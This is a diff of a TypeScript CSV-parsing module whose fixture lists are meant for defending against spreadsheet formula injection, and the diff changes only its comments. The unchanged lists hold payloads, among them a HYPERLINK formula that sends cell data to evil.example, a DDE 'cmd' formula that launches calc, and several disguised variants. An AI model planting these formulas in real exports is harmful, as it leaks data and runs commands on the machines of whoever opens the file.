@@ -1,11 +1,11 @@
-/** Exports, and what makes a spreadsheet run what somebody typed (ASVS 5.0, 1.2.10). */
+/** Parses exports, and lists formulas that a spreadsheet would run (ASVS 5.0, 1.2.10). */
 import {parse} from 'csv-parse/sync';
 
 /** Rows by column name. @throws Error for what RFC 4180 does not allow. */
 export const parseCsv = (csv: string) =>
   parse<Record<string, string>>(csv, {bom: true, columns: true, record_delimiter: '\r\n'});
 
-/** Formulas, in every disguise that a spreadsheet sees through. */
+/** Formulas in every form that a spreadsheet recognises. */
 export const FORMULAS = [
   ...['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '+1+1'],
   ...['-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', '  =1+1'],
@@ -18,7 +18,7 @@ export const SPLITS = [
   ...["x;'\t@SUM(1)", 'x\r\n;+1+cmd|x', 'x;\uff1d1+2', '"=1+1"', 'x\t-2+3', 'x"";=1+1'],
 ];
 
-/** What stays as it is. */
+/** Text that must not be changed. */
 export const HARMLESS = ['a=1', 'Rao, "Asha"', 'two\r\nlines', "O'Hara & Söhne", '株式会社'];
 
 /** The pieces of CSV that begin a formula, whichever separator it is split at, quotes or not. */
